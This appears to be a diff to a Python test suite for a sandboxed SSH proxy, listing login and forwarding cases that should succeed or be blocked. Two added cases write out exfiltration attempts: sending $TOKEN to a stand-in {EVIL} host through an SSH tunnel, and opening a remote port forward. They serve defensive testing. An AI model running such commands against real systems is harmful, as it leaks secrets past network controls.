@@ -120,6 +120,8 @@ def logins(secrets):
     yield Row("ssh with a key that the sandbox does not have", use(proxy(known), protocol="ssh"), f"echo input | {SSH} -p 2222 someone@good.test 'cat; echo $((6 * 7)); exit 0'", says="input 42|input\\s42", saw="sshd: .*Accepted publickey for root")
     other = f'ssh-keygen -q -t ed25519 -N "" -f /tmp/other && {SSH.replace(f"{HOME}/inside", "/tmp/other")} -p 2222 someone@good.test true'
     yield Row("ssh with a key that the policy does not know", use(proxy(known), protocol="ssh"), other, unseen="Accepted publickey")
+    yield Row("ssh with such a key goes no further", use(proxy(known), protocol="ssh"), f"printf 'GET /%s HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' $TOKEN | {SSH} -p 2222 -W {EVIL}:80 someone@good.test")
+    yield Row("ssh with such a key opens no port", use(proxy(known), protocol="ssh"), f"{SSH} -p 2222 -o ExitOnForwardFailure=yes -R 0:127.0.0.1:80 someone@good.test echo $TOKEN")
     forged = f"[good.test]:2222 {secrets.inside_key}"
     yield Row("git over SSH to a server that is not known", use(proxy(forged), protocol="ssh"), git, unseen="Accepted publickey")
 
